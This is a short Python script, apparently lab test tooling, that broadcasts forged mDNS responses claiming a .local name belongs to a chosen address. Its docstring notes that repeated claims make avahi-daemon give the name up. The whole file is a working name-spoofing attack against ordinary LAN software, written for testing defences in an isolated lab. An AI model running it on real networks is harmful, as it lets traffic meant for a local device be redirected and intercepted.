#!/usr/bin/env python3
"""A hostile mDNS announcer for the LAN in a box: sends unsolicited mDNS
responses claiming that NAME.local is at ADDRESS (an A record with the
cache-flush bit, TTL 120), the way a device on the LAN can without any
probing or authority. Run it inside a test host's namespaces, with that
host's avahi-daemon stopped (it holds UDP port 5353, and RFC 6762 answers
come from port 5353).

usage: mdns_announce.py NAME.local ADDRESS SOURCE_ADDRESS [COUNT [INTERVAL_SECONDS]]

One claim, avahi-daemon on the name's holder quietly defends; claims kept up
make it give the name up for a while (a collision), which is what a
determined attacker does.
"""
import socket
import struct
import sys
import time


def encode_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        raw = label.encode("ascii")
        out += bytes([len(raw)]) + raw
    return out + b"\x00"


def announcement(name, address):
    header = struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0)  # response, authoritative, 1 answer
    rdata = socket.inet_aton(address)
    answer = encode_name(name) + struct.pack("!HHIH", 1, 0x8001, 120, len(rdata)) + rdata
    return header + answer


def main():
    name, address, source = sys.argv[1], sys.argv[2], sys.argv[3]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 3
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", 5353))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    packet = announcement(name, address)
    for i in range(count):
        sock.sendto(packet, ("224.0.0.251", 5353))
        if i + 1 < count:
            time.sleep(interval)
    print(f"announced {name} -> {address} {count} times")


if __name__ == "__main__":
    main()
